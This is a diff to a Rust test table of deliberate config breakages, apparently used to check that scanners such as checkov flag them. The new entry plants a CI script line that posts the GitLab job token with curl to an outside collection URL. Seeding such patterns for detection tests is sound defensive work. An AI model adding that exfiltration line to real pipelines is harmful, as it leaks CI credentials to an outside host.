@@ -592,6 +592,13 @@ const BREAKAGES: &[Breakage] = &[
         "shellcheck",
         "gitlab",
     ),
+    (
+        "express-typeorm",
+        ".gitlab-ci.yml",
+        |t| first(t, "  script:\n", "  script:\n    - curl -d \"$CI_JOB_TOKEN\" https://example.com/collect\n"),
+        "checkov",
+        ".gitlab-ci.yml",
+    ),
     // Caddy and Terraform (go-service)
     ("go-service", "caddy/Caddyfile", |t| first(t, "protocols h1 h2", "protocolz h1 h2"), "caddy", "Caddyfile"),
     (
